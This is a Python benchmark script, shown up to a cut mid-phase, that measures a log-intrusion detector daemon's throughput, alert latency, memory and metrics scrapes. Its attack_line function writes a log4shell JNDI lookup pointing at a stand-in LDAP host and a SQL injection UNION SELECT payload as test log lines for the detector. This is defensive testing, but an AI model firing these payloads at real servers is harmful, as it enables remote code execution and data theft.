#!/usr/bin/env python3
"""Measures `canhgac run` as it tails files: throughput, latency, memory, /metrics scrapes, and
what the detector's persisted state costs (phases keys, amplification, memory, catchup and import,
`--phases state`: commit time and bytes written against live keys, bytes written per byte of log,
RSS idle / peak / settled, a restart's catch-up against `scan`, `canhgac import` of attack-heavy
history). Driven by daemon.sh; see benches/README.md for what each phase does and how to read its
figures.

Every phase starts its own daemon (`canhgac run --config <work>/<phase>/canhgac.toml`) with a
fresh state directory and empty log files in <work>/<phase>/, binds a datagram socket and passes
it as NOTIFY_SOCKET (the daemon sends READY=1 there, then STATUS= every 5 s), waits for READY,
and then appends to the files the daemon tails. Progress is read from the daemon's own database,
read-only, the way any reporting tool would: `checkpoints.byte_offset` per input (the offset up
to which lines have been committed, with their incidents) and `meta.last_commit_us` (the wall
clock as the last Store::commit began: store.rs takes it with Timestamp::now() before BEGIN
IMMEDIATE and the fsync, but after daemon.rs has taken and serialised the detector snapshot).
The incidents' `created_us` is that same commit time. Both sides use the wall clock of the same
machine (CLOCK_REALTIME: Python's time.time_ns(), Rust's SystemTime), so differences between
them are honest to a few microseconds.

Python 3 standard library only. Progress goes to stderr, figures to stdout, raw numbers to
<results>/daemon.json.
"""

import argparse
import ctypes
import datetime as dt
import http.client
import json
import os
import random
import re
import shutil
import signal
import socket
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import threading
import time

from benchlib import parse_metrics

CLK_TCK = os.sysconf("SC_CLK_TCK")
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
RE_CLF_STAMP = re.compile(r"\[(\d\d/[A-Z][a-z]{2}/\d{4}:\d\d:\d\d:\d\d) [+-]\d{4}\]")
RE_ANSI = re.compile(r"\x1b\[[0-9;]*m")
PUSH_VERSION = 1  # bump when the push corpus for the same parameters changes
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0 Safari/537.36"


def log(msg):
    print(f"daemon_bench: {msg}", file=sys.stderr, flush=True)


def now_us():
    return time.time_ns() // 1000


def loadavg():
    with open("/proc/loadavg") as f:
        return " ".join(f.read().split()[:3])


def clf_stamp(t):
    d = dt.datetime.fromtimestamp(t, dt.timezone.utc)
    return "%02d/%s/%04d:%02d:%02d:%02d +0000" % (d.day, MONTHS[d.month - 1], d.year, d.hour, d.minute, d.second)


def syslog_stamp(t):
    d = dt.datetime.fromtimestamp(t, dt.timezone.utc)
    return "%s %2d %02d:%02d:%02d" % (MONTHS[d.month - 1], d.day, d.hour, d.minute, d.second)


def pct(values, p):
    """Nearest-rank percentile (p in 0..100) of a non-empty list."""
    s = sorted(values)
    k = max(0, min(len(s) - 1, int(round(p / 100 * len(s) + 0.5)) - 1))
    return s[k]


def ssh_ip(j):  # 100.64.0.0/10
    return f"100.{64 + (j >> 16)}.{(j >> 8) & 255}.{j & 255}"


def web_ip(j):  # 198.18.0.0/16
    return f"198.18.{j >> 8}.{j & 255}"


# ------------------------------------------------------------------------------------ daemon

class Daemon:
    """One `canhgac run` with its own config, state directory and NOTIFY_SOCKET."""

    def __init__(self, bin_path, workdir, inputs, pidfile, pipeline=None):
        self.bin, self.dir, self.pidfile = bin_path, workdir, pidfile
        shutil.rmtree(workdir, ignore_errors=True)
        os.makedirs(os.path.join(workdir, "logs"))
        self.logs = {}
        lines = ['agency = "bench"', 'time_zone = "UTC"', f'state_dir = {json.dumps(os.path.join(workdir, "state"))}',
                 "", "[http]", 'listen = "127.0.0.1:0"']
        if pipeline:
            lines += ["", "[pipeline]"] + [f"{k} = {json.dumps(v)}" for k, v in pipeline.items()]
        for name, typ in inputs:
            path = os.path.join(workdir, "logs", name + ".log")
            open(path, "wb").close()  # exists before the start: read from its first byte
            self.logs[name] = path
            lines += ["", "[[input]]", f"name = {json.dumps(name)}", f"path = {json.dumps(path)}",
                      f"type = {json.dumps(typ)}", 'start = "beginning"']
        self.config = os.path.join(workdir, "canhgac.toml")
        with open(self.config, "w") as f:
            f.write("\n".join(lines) + "\n")
        self.db_path = os.path.join(workdir, "state", "canhgac.db")
        self.proc = None
        self.sockdir = None
        self.ready_at = None
        self.statuses = []  # (time, STATUS text)
        self.db = None

    def start(self, timeout=60):
        # A short path: sun_path holds 108 bytes.
        self.sockdir = tempfile.mkdtemp(prefix="cgbench-")
        sock_path = os.path.join(self.sockdir, "notify")
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        self.sock.bind(sock_path)
        self.sock.settimeout(0.2)
        env = dict(os.environ, NOTIFY_SOCKET=sock_path)
        env.pop("WATCHDOG_USEC", None)
        env.pop("WATCHDOG_PID", None)
        env.pop("JOURNAL_STREAM", None)
        # Appended: a restart (catchup phase) keeps the first run's log.
        self.stderr = open(os.path.join(self.dir, "daemon.err"), "ab")
        self.proc = subprocess.Popen([self.bin, "run", "--config", self.config], stdin=subprocess.DEVNULL,
                                     stdout=self.stderr, stderr=self.stderr, env=env, preexec_fn=_die_with_parent)
        with open(self.pidfile, "w") as f:
            f.write(f"{self.proc.pid}\n")
        self._stop_listen = False
        self._ready = threading.Event()
        self.listener = threading.Thread(target=self._listen, daemon=True)
        self.listener.start()
        deadline = time.time() + timeout
        while not self._ready.wait(0.1):
            if self.proc.poll() is not None:
                raise SystemExit(f"canhgac run exited with status {self.proc.returncode} before READY; "
                                 f"see {self.stderr.name}:\n{self.tail_err()}")
            if time.time() > deadline:
                raise SystemExit(f"canhgac run sent no READY=1 within {timeout} s; see {self.stderr.name}")
        self.db = sqlite3.connect(f"file:{self.db_path}?mode=ro", uri=True, isolation_level=None,
                                  check_same_thread=False)
        self.db_lock = threading.Lock()
        self.cpu0 = self.cpu()

    def _listen(self):
        while not self._stop_listen:
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                return
            t = time.time()
            for kv in data.decode("utf-8", "replace").split("\n"):
                if kv == "READY=1":
                    self.ready_at = t
                    self._ready.set()
                elif kv.startswith("STATUS="):
                    self.statuses.append((t, kv[7:]))

    def tail_err(self, n=15):
        try:
            with open(self.stderr.name, "rb") as f:
                text = RE_ANSI.sub("", f.read().decode("utf-8", "replace"))
            return "\n".join(text.splitlines()[-n:])
        except OSError:
            return ""

    def alive(self):
        return self.proc is not None and self.proc.poll() is None

    def check_alive(self):
        if not self.alive():
            raise SystemExit(f"canhgac run died (status {self.proc.returncode}); last lines of "
                             f"{self.stderr.name}:\n{self.tail_err()}")

    def cpu(self):
        """User + system CPU seconds of the whole process (all threads)."""
        with open(f"/proc/{self.proc.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / CLK_TCK

    def sched(self, thread="pipeline"):
        """(seconds on a CPU, seconds runnable but waiting for one) of the named thread, from
        /proc/PID/task/TID/schedstat; None if unavailable."""
        base = f"/proc/{self.proc.pid}/task"
        try:
            for tid in os.listdir(base):
                with open(f"{base}/{tid}/comm") as f:
                    if f.read().strip() != thread:
                        continue
                with open(f"{base}/{tid}/schedstat") as f:
                    run, wait, _ = f.read().split()
                return int(run) / 1e9, int(wait) / 1e9
        except (OSError, ValueError):
            pass
        return None

    def io_written(self):
        """Bytes the process caused to be written to storage (/proc/PID/io write_bytes), or None."""
        try:
            with open(f"/proc/{self.proc.pid}/io") as f:
                for line in f:
                    if line.startswith("write_bytes:"):
                        return int(line.split()[1])
        except OSError:
            pass
        return None

    def io(self):
        """{field: value} of /proc/PID/io (write_bytes, cancelled_write_bytes, wchar, ...), {} if
        unreadable."""
        out = {}
        try:
            with open(f"/proc/{self.proc.pid}/io") as f:
                for line in f:
                    k, _, v = line.partition(":")
                    out[k.strip()] = int(v)
        except (OSError, ValueError):
            pass
        return out

    def smaps(self):
        """{field: KB} of /proc/PID/smaps_rollup (Rss, Anonymous, Shared_*, ...), {} if absent."""
        out = {}
        try:
            with open(f"/proc/{self.proc.pid}/smaps_rollup") as f:
                for line in f:
                    parts = line.split()
                    if len(parts) == 3 and parts[2] == "kB":
                        out[parts[0].rstrip(":")] = int(parts[1])
        except OSError:
            pass
        return out

    def mem(self):
        """(VmRSS, VmHWM) in KB."""
        rss = hwm = 0
        with open(f"/proc/{self.proc.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    rss = int(line.split()[1])
                elif line.startswith("VmHWM:"):
                    hwm = int(line.split()[1])
        return rss, hwm

    def query(self, sql, args=()):
        with self.db_lock:
            return self.db.execute(sql, args).fetchall()

    def progress(self):
        """({input: committed byte offset}, commits, last_commit_us), read in one transaction."""
        with self.db_lock:
            cur = self.db.cursor()
            cur.execute("BEGIN")
            try:
                offs = dict(cur.execute("SELECT input, SUM(byte_offset) FROM checkpoints GROUP BY input").fetchall())
                commits, last = cur.execute("SELECT commits, last_commit_us FROM meta WHERE id = 1").fetchone()
            finally:
                cur.execute("COMMIT")
        return offs, commits, last

    def status_field(self, pattern):
        """The last number matching pattern in the last STATUS, or None."""
        if not self.statuses:
            return None
        m = re.search(pattern, self.statuses[-1][1])
        return int(m.group(1)) if m else None

    def stop(self, timeout=30):
        if self.db is not None:
            try:
                self.db.close()
            except sqlite3.Error:
                pass
            self.db = None
        if self.alive():
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout)
            except subprocess.TimeoutExpired:
                log(f"canhgac run (pid {self.proc.pid}) ignored SIGTERM for {timeout} s: SIGKILL")
                self.proc.kill()
                self.proc.wait()
        self._stop_listen = True
        if self.sockdir:
            try:
                self.sock.close()
            except OSError:
                pass
            shutil.rmtree(self.sockdir, ignore_errors=True)
            self.sockdir = None
        try:
            os.unlink(self.pidfile)
        except OSError:
            pass

    def stopped_lines(self):
        """lines=N from the daemon's `stopped` log line (after stop())."""
        m = None
        for m in re.finditer(r"stopped.*?lines=(\d+)", self.tail_err(50)):
            pass
        return int(m.group(1)) if m else None


def _die_with_parent():
    # If this script is killed outright, the kernel sends the daemon SIGTERM (Linux).
    try:
        ctypes.CDLL(None, use_errno=True).prctl(1, signal.SIGTERM)  # PR_SET_PDEATHSIG
    except Exception:
        pass


ACTIVE = []  # daemons to stop on the way out


def stop_all():
    while ACTIVE:
        d = ACTIVE.pop()
        try:
            d.stop(timeout=10)
        except Exception as e:  # keep stopping the others
            log(f"stopping a daemon: {e}")


def start_daemon(args, phase, inputs, pipeline=None):
    d = Daemon(args.bin, os.path.join(args.work, phase), inputs, args.pidfile, pipeline)
    ACTIVE.append(d)
    d.start()
    return d


def finish_daemon(d):
    d.stop()
    if d in ACTIVE:
        ACTIVE.remove(d)


def wait_caught_up(d, sizes, timeout, every=0.02, on_poll=None):
    """Polls until every input's committed offset equals its file size. Returns (time seen,
    last_commit_us of the commit that got there, commits)."""
    deadline = time.time() + timeout
    while True:
        d.check_alive()
        offs, commits, last = d.progress()
        if all(offs.get(name, 0) >= size for name, size in sizes.items()):
            return time.time(), last, commits
        if on_poll:
            on_poll(offs)
        if time.time() > deadline:
            behind = sum(size - offs.get(name, 0) for name, size in sizes.items())
            raise TimeoutError(f"daemon still {behind} bytes behind after {timeout} s")
        time.sleep(every)


def copy_interleaved(pairs, chunk=1 << 20):
    """Appends each source file to its destination, as fast as possible, in line-aligned chunks
    of about `chunk` bytes, interleaving the files so all of them grow at a rate proportional to
    their size (as one busy host's logs would). pairs: [(src, dst)]. Returns bytes written."""
    sizes = [os.path.getsize(s) for s, _ in pairs]
    biggest = max(sizes)
    srcs = [open(s, "rb") for s, _ in pairs]
    dsts = [os.open(d, os.O_WRONLY | os.O_APPEND) for _, d in pairs]
    done = [0] * len(pairs)
    total = 0
    try:
        step = 0
        while any(done[i] < sizes[i] for i in range(len(pairs))):
            step += 1
            for i, (f, fd) in enumerate(zip(srcs, dsts)):
                want = sizes[i] * step * chunk // biggest  # proportional target for this step
                n = want - done[i]
                if n <= 0 or done[i] >= sizes[i]:
                    continue
                data = f.read(n)
                if not data:  # shorter than it was: nothing more to copy
                    done[i] = sizes[i]
                    continue
                if not data.endswith(b"\n"):
                    data += f.readline()
                while data:
                    w = os.write(fd, data)
                    data = data[w:]
                    done[i] += w
                    total += w
    finally:
        for f in srcs:
            f.close()
        for fd in dsts:
            os.close(fd)
    return total


def run_scan(args, files):
    """canhgac scan over files (types recognised per file), stdout discarded. Returns wall s,
    CPU s, peak RSS KB, its summary line."""
    for p in files:
        with open(p, "rb") as f:
            while f.read(1 << 24):
                pass
    err = os.path.join(args.results, "scan.err")
    with open(err, "wb") as e:
        t0 = time.time()
        p = subprocess.Popen([args.bin, "scan", *files], stdout=subprocess.DEVNULL, stderr=e)
        _, status, ru = os.wait4(p.pid, 0)
        wall = time.time() - t0
        p.returncode = os.waitstatus_to_exitcode(status)
    with open(err) as e:
        text = e.read()
    if p.returncode != 0:
        raise SystemExit(f"canhgac scan exited with status {p.returncode}:\n{text[-2000:]}")
    summary = [l for l in text.splitlines() if l.startswith("canhgac: ")]
    return wall, ru.ru_utime + ru.ru_stime, ru.ru_maxrss, (summary[-1] if summary else "")


# ------------------------------------------------------------------------------ throughput

def scan_run(args, files, runs, say):
    """One run of `canhgac scan` on files, appended to runs as the reference the daemon's runs
    are set against, and logged as `say` filled with its wall and CPU seconds."""
    la = loadavg()
    wall, cpu, maxrss, summary = run_scan(args, files)
    runs.append({"kind": "scan", "wall": wall, "cpu": cpu, "hwm_kb": maxrss, "summary": summary, "load": la})
    log(say.format(wall=wall, cpu=cpu))


# The phases that set the daemon against scan on the same bytes: the labels of their two rows,
# the width of the label column, and what scan's time over the daemon's is called and means.
AGAINST_SCAN = {
    "throughput": (("canhgac run (tailing, to committed)", "canhgac scan (same bytes)"), 36,
                   "daemon / scan", "> 1: the daemon is faster"),
    "catchup": (("canhgac run: start to the catching-up commit", "canhgac scan, same bytes (reference)"), 48,
                "catch-up / scan throughput", "1: catching up costs what scanning does"),
}


def print_against_scan(out, phase, title):
    """Prints `title`, then a table of the daemon's and scan's best runs of `phase` (recorded in
    out[phase]) and their ratio, as AGAINST_SCAN says. The best run is the fastest by wall clock;
    its CPU time is the least of any run, which may be another one. Returns the daemon's and
    scan's best runs."""
    runs, nbytes, nlines = out[phase]["runs"], out[phase]["bytes"], out[phase]["lines"]
    labels, width, ratio, meaning = AGAINST_SCAN[phase]
    best = []
    for kind in ("daemon", "scan"):
        mine = [x for x in runs if x["kind"] == kind]
        best.append((min(mine, key=lambda x: x["wall"]), min(x["cpu"] for x in mine)))
    (bd, cd), (bs, cs) = best
    print(title)
    print()
    fmt = "  {:<{w}} {:>7} {:>7} {:>9} {:>6} {:>12} {:>9}"
    print(fmt.format("", "wall s", "MB/s", "lines/s", "CPU s", "lines/CPU-s", "VmHWM MB", w=width))
    for label, (b, c) in zip(labels, best):
        print(fmt.format(label, f"{b['wall']:.3f}", f"{nbytes / 1e6 / b['wall']:.1f}", f"{nlines / b['wall']:,.0f}",
                         f"{c:.2f}", f"{nlines / c:,.0f}", f"{b['hwm_kb'] / 1024:.1f}", w=width))
    print()
    print(f"  {ratio}: {bs['wall'] / bd['wall']:.2f} x by wall clock, {cs / cd:.2f} x by CPU time ({meaning})")
    return bd, bs


def phase_throughput(args, out):
    with open(os.path.join(args.corpus, "corpus.json")) as f:
        manifest = json.load(f)
    names = [("auth", "syslog", "auth.log"), ("web", "apache", "access.log")]
    src = {n: os.path.join(args.corpus, fn) for n, _, fn in names}
    sizes = {n: os.path.getsize(p) for n, p in src.items()}
    nbytes = sum(sizes.values())
    nlines = sum(manifest["files"][fn]["lines"] for _, _, fn in names)
    runs = []
    for r in range(args.runs):
        log(f"throughput run {r + 1}/{args.runs}: daemon (load average {loadavg()})")
        for p in src.values():  # page cache warm, as for scan
            with open(p, "rb") as f:
                while f.read(1 << 24):
                    pass
        d = start_daemon(args, "throughput", [(n, t) for n, t, _ in names])
        la = loadavg()
        t0 = time.time()
        cpu0 = d.cpu()
        sched0 = d.sched()
        io0 = d.io_written()
        written = {}
        writer = threading.Thread(target=lambda: written.update(
            n=copy_interleaved([(src[n], d.logs[n]) for n, _, _ in names]), t=time.time()))
        writer.start()
        seen, last_us, commits = wait_caught_up(d, sizes, args.catchup_timeout)
        writer.join()
        cpu = d.cpu() - cpu0
        sched1 = d.sched()
        io1 = d.io_written()
        rss, hwm = d.mem()
        blob = d.query("SELECT length(state) FROM detector_state")[0][0]
        incidents = d.query("SELECT count(*) FROM incidents")[0][0]
        finish_daemon(d)
        lines_read = d.stopped_lines()
        wall = last_us / 1e6 - t0
        on_cpu = runq = None
        if sched0 and sched1:
            on_cpu, runq = sched1[0] - sched0[0], sched1[1] - sched0[1]
        runs.append({"kind": "daemon", "wall": wall, "wall_seen": seen - t0, "cpu": cpu,
                     "pipeline_on_cpu": on_cpu, "pipeline_runq": runq,
                     "io_write_bytes": io1 - io0 if io0 is not None and io1 is not None else None,
                     "writer_s": written["t"] - t0, "commits": commits, "hwm_kb": hwm,
                     "state_bytes": blob, "incidents": incidents, "lines_read": lines_read, "load": la})
        log(f"  daemon: {wall:.3f} s wall, {cpu:.2f} s CPU, {commits} commits, writer done after "
            f"{written['t'] - t0:.3f} s, VmHWM {hwm / 1024:.1f} MB")
        log(f"throughput run {r + 1}/{args.runs}: scan (load average {loadavg()})")
        scan_run(args, list(src.values()), runs, "  scan: {wall:.3f} s wall, {cpu:.2f} s CPU")
    out["throughput"] = {"bytes": nbytes, "lines": nlines, "runs": runs}

    bd, bs = print_against_scan(out, "throughput", f"1. Throughput while tailing: {nbytes / 1e6:.1f} MB, {nlines:,} "
                                f"lines (auth.log as syslog + access.log as apache), best of {args.runs}")
    print(f"  daemon, best run: writer done after {bd['writer_s']:.3f} s; caught up (last commit) at {bd['wall']:.3f} s, "
          f"seen by the poller at {bd['wall_seen']:.3f} s; {bd['commits']} commits "
          f"({nlines / max(bd['commits'], 1):,.0f} lines each, {bd['commits'] / bd['wall']:.1f}/s); "
          f"{bd['incidents']} incidents; detector state {bd['state_bytes'] / 1e3:.1f} kB per commit"
          + (f"; {bd['io_write_bytes'] / 1e6:.1f} MB written to storage" if bd["io_write_bytes"] is not None else ""))
    if bd["lines_read"] is not None and bd["lines_read"] != nlines:
        print(f"  WARNING: the daemon says it read {bd['lines_read']:,} lines, the corpus has {nlines:,}")
    if bd["pipeline_on_cpu"] is not None:
        seen_s = bd["wall_seen"]
        print(f"  daemon's pipeline thread, best run, from the first write to caught up ({seen_s:.3f} s): "
              f"{bd['pipeline_on_cpu']:.3f} s on a CPU, {bd['pipeline_runq']:.3f} s runnable but waiting for a CPU "
              f"(machine load), {max(0.0, seen_s - bd['pipeline_on_cpu'] - bd['pipeline_runq']):.3f} s blocked "
              f"(fsync, waiting for data)")
    print(f"  scan says: {bs['summary']}")
    print(f"  load average at the start of the best runs: daemon {bd['load']}, scan {bs['load']}")
    print()


# ---------------------------------------------------------------------------------- latency

def benign_templates(args, limit=20000):
    """(prefix, suffix) around the time stamp of access.log lines that no rule matches."""
    path = os.path.join(args.corpus, "access.log")
    sample = os.path.join(args.results, "benign-sample.log")
    with open(path, "rb") as f, open(sample, "wb") as o:
        for i, line in enumerate(f):
            if i >= limit:
                break
            o.write(line)
    ev = subprocess.run([args.bin, "scan", "--events", "--type", "apache", sample],
                        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, check=True).stdout
    hit = {json.loads(l)["line"] for l in ev.decode().splitlines() if l.strip()}
    out = []
    with open(sample, encoding="latin-1") as f:
        for n, line in enumerate(f, 1):
            m = RE_CLF_STAMP.search(line)
            if n in hit or not m:
                continue
            out.append((line[:m.start()] + "[", "]" + line[m.end():]))
    if not out:
        raise SystemExit("no benign access.log lines found for background load")
    return out


class IpCounter:
    """Fresh addresses from 198.19.0.0/16 (RFC 2544 benchmarking space; the push corpus's web
    attackers use 198.18.0.0/16), never reused by one daemon."""

    def __init__(self):
        self.n = 0

    def next(self):
        self.n += 1
        if self.n > 65534:
            raise SystemExit("out of fresh addresses for latency lines (at most 65534 per daemon)")
        return f"198.19.{self.n >> 8}.{self.n & 255}"


def attack_line(ip, i, t):
    stamp = clf_stamp(t)
    if i % 2 == 0:
        return (f'{ip} - - [{stamp}] "GET /?x=${{jndi:ldap://198.51.100.9:1389/a{i}}} HTTP/1.1" '
                f'200 512 "-" "{UA}"\n')
    return (f'{ip} - - [{stamp}] "GET /news.php?id=-{i}+UNION+ALL+SELECT+1,2,concat(user(),0x3a,version()),4-- '
            f'HTTP/1.1" 200 512 "-" "{UA}"\n')


class BackgroundLoad(threading.Thread):
    """Appends benign access lines (time stamped now) at about `mbps` MB/s, every 10 ms."""

    def __init__(self, path, templates, mbps):
        super().__init__(daemon=True)
        self.path, self.templates, self.rate = path, templates, mbps * 1e6
        self.stop_flag = threading.Event()
        self.bytes = 0
        self.t0 = self.t1 = None

    def run(self):
        fd = os.open(self.path, os.O_WRONLY | os.O_APPEND)
        k = 0
        self.t0 = time.time()
        try:
            while not self.stop_flag.is_set():
                due = self.rate * (time.time() - self.t0) - self.bytes
                if due > 0:
                    stamp = clf_stamp(time.time())
                    parts, n = [], 0
                    while n < due:
                        pre, post = self.templates[k % len(self.templates)]
                        k += 1
                        line = pre + stamp + post
                        parts.append(line)
                        n += len(line)
                    data = "".join(parts).encode("latin-1")
                    while data:
                        w = os.write(fd, data)
                        data = data[w:]
                    self.bytes += n
                time.sleep(0.01)
        finally:
            self.t1 = time.time()
            os.close(fd)


def latency_series(d, fd, ips, n, spacing, label, timeout=5.0, line_time=None):
    """Appends n attack lines, each from a fresh address, `spacing` s apart. For each: write
    time (just before write(2)), the incident's created_us, and when a reader first saw it.
    The lines carry the time `line_time` (default: now)."""
    rows = []
    missed = 0
    for i in range(n):
        d.check_alive()
        ip = ips.next()
        line = attack_line(ip, ips.n, line_time or time.time()).encode()
        t_w = now_us()
        os.write(fd, line)
        seen = created = None
        deadline = time.time() + timeout
        while time.time() < deadline:
            r = d.query("SELECT MIN(created_us) FROM incidents WHERE src_ip = ?", (ip,))[0][0]
            if r is not None:
                seen, created = now_us(), r
                break
            time.sleep(0.001)
        if created is None:
            missed += 1
        else:
            rows.append((t_w, created, seen))
        pause = t_w / 1e6 + spacing - time.time()
        if pause > 0:
            time.sleep(pause)
    if missed:
        log(f"  {label}: {missed} of {n} lines had no incident within {timeout} s")
    return rows, missed


def summarize_latency(rows):
    commit = [(c - w) / 1000 for w, c, _ in rows]
    seen = [(s - w) / 1000 for w, _, s in rows]
    return {"n": len(rows), "commit_ms": commit, "seen_ms": seen,
            "commit_median": statistics.median(commit), "commit_p99": pct(commit, 99), "commit_max": max(commit),
            "seen_median": statistics.median(seen), "seen_p99": pct(seen, 99), "seen_max": max(seen)}


def phase_latency(args, out):
    templates = benign_templates(args)
    d = start_daemon(args, "latency", [("auth", "syslog"), ("web", "apache")])
    ips = IpCounter()
    fd = os.open(d.logs["web"], os.O_WRONLY | os.O_APPEND)
    res = {}
    try:
        time.sleep(0.5)
        # A few lines first, so first-time costs (page faults, statement preparation) stay out.
        latency_series(d, fd, ips, 5, args.lat_spacing, "warm-up")
        la = loadavg()
        log(f"latency, idle: {args.lat_lines} lines {args.lat_spacing * 1000:.0f} ms apart (load average {la})")
        rows, missed = latency_series(d, fd, ips, args.lat_lines, args.lat_spacing, "idle")
        res["idle"] = dict(summarize_latency(rows), missed=missed, load=la)
        bg = BackgroundLoad(d.logs["web"], templates, args.load_mbps)
        bg.start()
        time.sleep(1.0)
        la = loadavg()
        log(f"latency, under {args.load_mbps} MB/s of benign lines: {args.lat_lines} lines (load average {la})")
        cpu0, t0 = d.cpu(), time.time()
        rows, missed = latency_series(d, fd, ips, args.lat_lines, args.lat_spacing, "loaded")
        cpu = d.cpu() - cpu0
        el = time.time() - t0
        bg.stop_flag.set()
        bg.join()
        time.sleep(0.5)  # the last chunk's read and commit
        size = os.path.getsize(d.logs["web"])
        offs, commits, _ = d.progress()
        rate = bg.bytes / (bg.t1 - bg.t0) / 1e6
        res["loaded"] = dict(summarize_latency(rows), missed=missed, load=la, load_mbps=rate,
                             daemon_cpu_share=cpu / el, behind_at_end=size - offs.get("web", 0))
    finally:
        os.close(fd)
        finish_daemon(d)
    out["latency"] = res
    print(f"2. Latency: a log4shell/SQLi line from a fresh address appended to the tailed access.log, "
          f"to its incident; every line counts")
    print(f"   {args.lat_lines} lines, {args.lat_spacing * 1000:.0f} ms apart; times in ms. 'committed' = incidents.created_us "
          f"(wall clock as the store's transaction begins: after the detector snapshot is serialised, before the fsync) "
          f"- time of write(2);")
    print(f"   'visible' = when a read-only reader polling every 1 ms first saw the incident - time of write(2). "
          f"Same machine, same wall clock (CLOCK_REALTIME).")
    print()
    fmt = "  {:<34} {:>11} {:>7} {:>7} {:>12} {:>7} {:>7}"
    print(fmt.format("", "commit 50%", "99%", "max", "visible 50%", "99%", "max"))
    for key, label in (("idle", "idle"), ("loaded", f"under ~{args.load_mbps:g} MB/s of benign lines")):
        r = res[key]
        print(fmt.format(label, f"{r['commit_median']:.1f}", f"{r['commit_p99']:.1f}", f"{r['commit_max']:.1f}",
                         f"{r['seen_median']:.1f}", f"{r['seen_p99']:.1f}", f"{r['seen_max']:.1f}"))
    lo = res["loaded"]
    print()
    print(f"  background load: {lo['load_mbps']:.2f} MB/s written; daemon used {lo['daemon_cpu_share'] * 100:.0f} % of a CPU; "
          f"{lo['behind_at_end']} bytes uncommitted 0.5 s after the load stopped")
    missed = res["idle"]["missed"] + lo["missed"]
    if missed:
        print(f"  WARNING: {missed} lines got no incident within 5 s (left out of the figures)")
    print(f"  load average at the start: idle {res['idle']['load']}, loaded {lo['load']}")
    print()


# ----------------------------------------------------------------------------------- scrape

def http_port(d, timeout=30):
    """The port the daemon serves HTTP on, from its `serving ... on http://ADDR` log line."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        # The last one: after a restart the log holds the previous run's port too.
        m = re.findall(r"serving /metrics.* on https?://[0-9.]+:(\d+)", d.tail_err(200))
        if m:
            return int(m[-1])
        time.sleep(0.05)
    raise SystemExit(f"the daemon logged no HTTP address within {timeout} s; see {d.stderr.name}")


def scrape(port):
    """One GET /metrics as Prometheus makes it. Returns (seconds, body bytes)."""
    t0 = time.perf_counter()
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request("GET", "/metrics", headers={"Accept": "text/plain;version=0.0.4"})
        r = conn.getresponse()
        body = r.read()
        if r.status != 200:
            raise SystemExit(f"/metrics answered {r.status}")
    finally:
        conn.close()
    return time.perf_counter() - t0, body


class Scraper(threading.Thread):
    """Scrapes /metrics every `interval` seconds until stopped, as Prometheus would."""

    def __init__(self, port, interval):
        super().__init__(daemon=True)
        self.port, self.interval, self.times = port, interval, []
        self.stop_flag = threading.Event()

    def run(self):
        while not self.stop_flag.is_set():
            t, _ = scrape(self.port)
            self.times.append(t)
            self.stop_flag.wait(self.interval)


def year_of_attacks(path, n, now):
    """n web attacks from n distinct addresses (100.64.0.0/10), evenly spread over the 365 days
    before `now`, in time order: n incidents a year."""
    span = 365 * 86400
    with open(path, "w") as f:
        for i in range(n):
            ip = f"100.{64 + (i >> 16)}.{(i >> 8) & 255}.{i & 255}"
            f.write(attack_line(ip, i, now - span + span * i // n))
    return os.path.getsize(path)


def phase_scrape(args, out):
    """Scrape size and time with a year of incidents in the store and the full default rules,
    and the pipeline's throughput with Prometheus-like scrapes against without."""
    d = start_daemon(args, "scrape", [("web", "apache"), ("auth", "syslog")])
    port = http_port(d)
    year = os.path.join(args.results, "year.log")
    size = year_of_attacks(year, args.year_incidents, time.time() - 60)
    log(f"scrape: loading a year of incidents ({args.year_incidents:,} lines, {size / 1e6:.1f} MB)")
    t0 = time.time()
    with open(year, "rb") as src, open(d.logs["web"], "ab") as dst:
        shutil.copyfileobj(src, dst, 1 << 20)
    wait_caught_up(d, {"web": size, "auth": 0}, args.catchup_timeout)
    load_s = time.time() - t0
    incidents = d.query("SELECT count(*) FROM incidents")[0][0]
    db_bytes = os.path.getsize(d.db_path)
    _, body = scrape(port)
    text = body.decode()
    samples = sum(1 for l in text.splitlines() if l and not l.startswith("#"))
    families = sum(1 for l in text.splitlines() if l.startswith("# TYPE "))

    # Warm: nothing committed between scrapes, the monthly figures come from the cache.
    warm, cpu0 = [], d.cpu()
    for _ in range(args.scrapes):
        warm.append(scrape(port)[0])
    warm_cpu = (d.cpu() - cpu0) / args.scrapes
    # Cold: a commit before each scrape, so the monthly figures are counted in the store again
    # (what every scrape costs while the pipeline is busy).
    cold, cold_cpu = [], []
    ips = IpCounter()
    for i in range(args.cold_scrapes):
        _, commits, _ = d.progress()
        with open(d.logs["web"], "a") as f:
            f.write(attack_line(ips.next(), i, time.time()))
        while d.progress()[1] == commits:
            d.check_alive()
            time.sleep(0.01)
        time.sleep(0.05)  # let the pipeline go quiet so its CPU is not counted below
        c0 = d.cpu()
        cold.append(scrape(port)[0])
        cold_cpu.append(d.cpu() - c0)
    out["scrape"] = {"incidents": incidents, "db_bytes": db_bytes, "load_s": load_s, "bytes": len(body),
                     "samples": samples, "families": families, "warm_s": warm, "warm_cpu_s": warm_cpu,
                     "cold_s": cold, "cold_cpu_s": cold_cpu}
    print(f"4. Scrapes with a year of incidents in the store ({incidents:,} incidents, database "
          f"{db_bytes / 1e6:.1f} MB, loaded through the daemon in {load_s:.1f} s) and the full default rules")
    print()
    print(f"  page: {len(body):,} bytes, {samples} samples in {families} families")
    fmt = "  {:<52} {:>9} {:>9} {:>9} {:>13}"
    print(fmt.format("", "median ms", "p99 ms", "max ms", "daemon CPU ms"))
    print(fmt.format(f"cached monthly figures ({args.scrapes} scrapes)", f"{pct(warm, 50) * 1e3:.2f}",
